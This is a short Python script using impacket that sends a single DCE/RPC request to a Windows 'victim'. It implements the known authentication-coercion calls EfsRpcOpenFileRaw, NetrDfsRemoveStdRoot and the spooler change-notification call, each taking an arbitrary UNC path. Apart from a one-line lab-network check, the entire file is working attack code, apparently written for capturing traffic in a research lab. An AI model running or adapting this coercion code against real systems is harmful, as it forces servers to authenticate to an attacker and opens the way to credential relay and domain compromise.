#!/usr/bin/env python3
"""One bind and one request against the victim, on impacket's DCE/RPC runtime.

For the captures in which the request must be readable; where it need not be, the real tools are
used. Only lab addresses are ever contacted.

usage: call.py BINDING METHOD PATH [--level N] [--map] [--proxy URL]
"""

import argparse
import ipaddress
import os
import re
import struct

from impacket.dcerpc.v5 import epm, rprn, transport
from impacket.http import AUTH_NTLM
from impacket.uuid import uuidtup_to_bin

EFSR_LSARPC = ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")
EFSR_EFSRPC = ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0")
SPOOLSS = ("12345678-1234-abcd-ef00-0123456789ab", "1.0")
NETDFS = ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")


def ndr_string(text):
    text += "\0"
    data = struct.pack("<III", len(text), 0, len(text)) + text.encode("utf-16-le")
    return data + bytes(-len(data) % 4)


def open_file_raw(rpc, path, host):
    rpc.call(0, ndr_string(path) + struct.pack("<I", 0))
    return rpc.recv()


def remove_std_root(rpc, path, host):
    rpc.call(13, ndr_string(path) + ndr_string("share") + struct.pack("<I", 0))
    return rpc.recv()


def find_first_notification(rpc, path, host):
    printer = rprn.hRpcOpenPrinter(rpc, f"\\\\{host}\0")["pHandle"]
    rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
        rpc, printer, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine=path + "\0"
    )


METHODS = {
    "EfsRpcOpenFileRaw:lsarpc": (EFSR_LSARPC, open_file_raw),
    "EfsRpcOpenFileRaw:efsrpc": (EFSR_EFSRPC, open_file_raw),
    "NetrDfsRemoveStdRoot": (NETDFS, remove_std_root),
    "RpcRemoteFindFirstPrinterChangeNotificationEx": (SPOOLSS, find_first_notification),
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("binding")
    parser.add_argument("method", choices=METHODS)
    parser.add_argument("path")
    parser.add_argument("--level", type=int, default=1, help="RPC authentication level, 1 is none")
    parser.add_argument("--map", action="store_true", help="ask the endpoint mapper for the port")
    parser.add_argument("--proxy", help="URL of the RPC over HTTP proxy")
    options = parser.parse_args()

    host = re.search(r"\d+\.\d+\.\d+\.\d+", options.binding + (options.proxy or "")).group()
    if ipaddress.ip_address(host) not in ipaddress.ip_network(os.environ["LAB_NET"]):
        raise SystemExit(f"{host} is not in the lab")
    interface, invoke = METHODS[options.method]

    binding = options.binding
    if options.map:
        binding = epm.hept_map(host, uuidtup_to_bin(interface), protocol="ncacn_ip_tcp")
    account = os.environ["ALICE"], os.environ["ALICE_PW"], os.environ["DOMAIN"]
    channel = transport.DCERPCTransportFactory(binding)
    if hasattr(channel, "set_credentials"):
        channel.set_credentials(*account)
    if options.proxy:
        channel.set_auth_type(AUTH_NTLM)
        channel.set_rpc_proxy_url(options.proxy)
    rpc = channel.get_dce_rpc()
    if options.level > 1:
        rpc.set_credentials(*account)
        rpc.set_auth_level(options.level)
    rpc.connect()
    rpc.bind(uuidtup_to_bin(interface))
    try:
        print("answer", invoke(rpc, options.path, host))
    except Exception as error:  # the methods end with an error by design
        print("answer", error)
    rpc.disconnect()


if __name__ == "__main__":
    main()
